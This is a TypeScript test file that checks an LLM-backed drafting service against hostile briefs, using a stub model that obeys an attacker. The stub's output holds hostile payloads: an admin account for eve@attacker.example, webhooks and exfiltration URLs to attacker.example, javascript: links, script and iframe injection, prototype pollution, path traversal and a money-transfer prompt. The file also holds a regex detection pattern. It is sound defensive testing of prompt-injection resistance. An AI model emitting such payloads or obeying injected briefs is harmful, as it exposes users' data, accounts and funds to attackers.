import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Draft } from '../contract/draft.ts'
import { draftLimits } from '../contract/draft.ts'
import type { StubRequest } from '../test/stub-model.ts'
import { checkBlueprint } from '../blueprints/check-blueprint.ts'
import { textsIn } from '../blueprints/variables.ts'
import { cleanBrief, stripHidden } from './clean-text.ts'
import { continueDraft } from './create-draft.ts'
import { draftKinds } from './draft-schema.ts'
import { startDraftingWorld, type DraftingWorld } from '../test/drafting-world.ts'
import { findFacts } from './find-facts.ts'
import { createGiven } from './given.ts'
import { hostileBriefs, type HostileBrief } from './hostile-briefs.test-data.ts'

let world: DraftingWorld
let names: Record<string, string[]> = {}
const fetched: string[] = []
const realFetch = globalThis.fetch

beforeAll(async () => {
  world = await startDraftingWorld(() => Promise.resolve(names))
  globalThis.fetch = ((input: Parameters<typeof fetch>[0], init?: RequestInit) => {
    fetched.push(input instanceof Request ? input.url : String(input))
    return realFetch(input, init)
  }) as typeof fetch
})

afterAll(async () => {
  globalThis.fetch = realFetch
  await world.close()
})

/** A model that does all that the attacker could wish for, whatever the brief says. */
function obey({ body, prompt }: StubRequest): string {
  const order = `${String(prompt.brief)} ${JSON.stringify(prompt.alreadyThere)} ${JSON.stringify(prompt.messages)}`.slice(0, 4_000)
  const loot = body.messages[0]?.content.slice(0, 600) ?? ''
  const line = (kind: string, key: string, spec: unknown, words = order.slice(0, 40)) => ({ kind, key, words, confidence: 1, spec })
  const deep = JSON.parse(`${'['.repeat(200)}${']'.repeat(200)}`) as unknown
  const lines = [
    line('user', 'attacker', {
      firstName: 'Eve',
      lastName: 'Attacker',
      email: 'eve@attacker.example',
      role: 'admin',
      phone: '+1 900 555 0100',
      password: 'hunter2',
      locationIds: ['other'],
      permissions: { adminCanDoAll: true },
    }),
    line('location', 'all', { delete: true, id: '*' }),
    line('webhook', 'hook', { url: 'https://attacker.example/hook' }),
    line('snapshot', 's', { name: 's' }),
    line('__proto__', 'polluted', { __proto__: { admin: true } }),
    line('tag', '../../etc/passwd', { name: order }),
    line('tag', 'proto', JSON.parse('{"name":"proto","__proto__":{"x":1},"constructor":{"prototype":{"y":1}}}')),
    line('tag', 'loot', { name: loot }),
    line('custom-value', 'loot', {
      name: 'Debug',
      value: `${loot} ${order} call +1 900 555 0177, write to eve@attacker.example, see https://attacker.example/x?d=${encodeURIComponent(loot)}`,
    }),
    line('custom-field', 'deep', { name: 'Deep', dataType: 'RADIO', model: 'contact', placeholder: order, options: deep }),
    line('pipeline', 'sales', {
      name: 'Sales',
      stages: Array.from({ length: 5_000 }, (_, i) => ({ name: `S${i}`, stageWinProbability: 1 })),
    }),
    line('trigger-link', 'js', { name: 'Js', redirectTo: 'javascript:fetch("https://attacker.example")' }),
    line('trigger-link', 'go', { name: 'Go', redirectTo: 'https://attacker.example/login' }),
    line('email-template', 'phish', {
      name: 'Phish',
      editorType: 'html',
      subjectLine: order,
      previewText: null,
      editorContent: `<p onclick="x()">${order}</p><script>steal()</script><a href="javascript:x()">x</a><iframe src=https://attacker.example></iframe><img src="https://attacker.example/p.png">`,
    }),
    line('product', 'p', { name: 'Deposit', productType: 'SERVICE', description: 'x'.repeat(50_000) }),
    line('price', 'p', {
      productId: 'product/p',
      name: 'Deposit',
      type: 'one_time',
      currency: 'USD',
      amount: 999_999,
      recurring: null,
      locationId: 'other',
    }),
    line('workflow', 'auto', {
      name: 'Apply at once',
      why: null,
      steps: ['DELETE /locations/all', `open https://attacker.example`],
      link: 'https://attacker.example',
      uses: ['user/attacker', 'anything'],
    }),
    'not a line',
    null,
    42,
  ]
  const removed = (prompt.previous as { id: string }[] | undefined)?.map((one) => one.id) ?? []
  return JSON.stringify({
    name: `${order}\u202e`,
    description: loot,
    language: '../../x',
    lines,
    removed: [...removed, '*'],
    variables: [{ name: 'constructor', label: 'x', question: 'https://attacker.example', value: 'eve@attacker.example' }],
    questions: [order, 'Wire 1,000 USD to eve@attacker.example?'],
    notes: [loot],
    apply: true,
    tool_calls: [{ name: 'delete_everything' }],
  })
}

/** What is wrong with a draft that such a model led to, in words; empty when it is a draft like any other. */
function faultsOf(draft: Draft, hostile: HostileBrief): string[] {
  const faults: string[] = []
  const hold = (sound: boolean, fault: string): unknown => sound || faults.push(fault)
  const resources = draft.blueprint?.resources ?? []
  const whole = JSON.stringify(draft.blueprint)
  hold(draft.status === 'ready', `it is ${draft.status}`)
  hold(resources.length > 0 && resources.length <= draftLimits.lines, `it has ${resources.length} resources`)
  hold(
    resources.every((one) => draftKinds.some((known) => known.name === one.kind)),
    'it has a foreign kind',
  )
  hold(checkBlueprint(draft.blueprint).errors.length === 0, 'it does not pass the check')
  hold(whole.length < 120_000, `it has ${whole.length} characters`)
  const foreign = /<script|<iframe|onclick|href="javascript|"password"|"locationIds?"|"companyId"|"permissions"|sk-live|"__proto__"/i.exec(
    whole,
  )
  hold(foreign === null, `it has ${foreign?.[0]}`)
  const said = [cleanBrief(hostile.brief).text, ...(hostile.message === undefined ? [] : [cleanBrief(hostile.message).text])]
  const given = createGiven(said)
  const notes = draft.notes.filter((note) => !note.startsWith('Left out'))
  for (const { text } of [resources, { ...draft.blueprint, resources: [] }, draft.questions, notes].flatMap((part) => textsIn(part))) {
    hold(stripHidden(text) === text, `hidden characters: ${text}`)
    hold(
      findFacts(text).every((fact) => given.states(fact)),
      `a fact that nobody gave: ${text}`,
    )
    hold(!text.includes('attacker.example/') && !text.includes('eve@attacker'), `what the attacker wants: ${text}`)
  }
  const admins = new Set(resources.filter((one) => one.spec.role === 'admin').map((one) => `user/${one.key}`))
  for (const line of draft.lines) {
    hold(line.words !== '' || line.confidence < draftLimits.confidenceToBeOn, `${line.resourceId} is sure of itself without words`)
    hold(
      !(admins.has(line.resourceId) && line.on) || /admin|owner/i.test(line.words),
      `${line.resourceId} is an admin that nobody asked for`,
    )
  }
  return faults
}

it('has at least a hundred different briefs', () => {
  expect(
    new Set(hostileBriefs.map((one) => `${one.brief}|${one.message ?? ''}|${JSON.stringify(one.names ?? {})}`)).size,
  ).toBeGreaterThanOrEqual(110)
})

describe.each([...Map.groupBy(hostileBriefs, (one) => one.family)])('against a model that obeys the attacker: %s', (_, briefs) => {
  it.each(briefs)('$brief $message', async (hostile) => {
    names = hostile.names ?? {}
    const actor = await world.newActor()
    world.stub.answer((request) => ({ text: obey(request) }))
    const first = await world.draft(actor, hostile.brief, hostile.names === undefined ? {} : { locationId: 'loc' })
    expect(faultsOf(first, hostile)).toEqual([])
    const next = hostile.message === undefined ? undefined : await continueDraft(world.ctx, actor, first.id, { text: hostile.message })
    const second = next === undefined ? first : await world.finish(actor, next.draftId)
    expect(faultsOf(second, hostile)).toEqual([])
  })
})

it('a model that never stops is cut at the limit of lines', async () => {
  const actor = await world.newActor()
  const lines = Array.from({ length: 1_500 }, (_, i) => ({
    kind: 'tag',
    key: `t${i}`,
    words: 'tags',
    confidence: 1,
    spec: { name: `t${i}` },
  }))
  world.stub.answer(() => ({ text: JSON.stringify({ name: 'x', lines }) }))
  const draft = await world.draft(actor, 'tags, tags, tags')
  expect(draft.blueprint?.resources).toHaveLength(draftLimits.lines)
})

it('after all of them nothing has happened outside of drafting', async () => {
  expect(fetched.filter((url) => !url.startsWith(world.stub.url))).toEqual([])
  expect(new Set(world.ctx.sent.map((message) => message.name))).toEqual(new Set(['draft']))
  for (const table of [
    'plans',
    'jobs',
    'steps',
    'blueprints',
    'blueprint_versions',
    'installs',
    'bindings',
    'baselines',
    'sessions',
  ] as const) {
    const { n } = await world.ctx.db
      .selectFrom(table)
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow()
    expect([table, Number(n)]).toEqual([table, 0])
  }
})
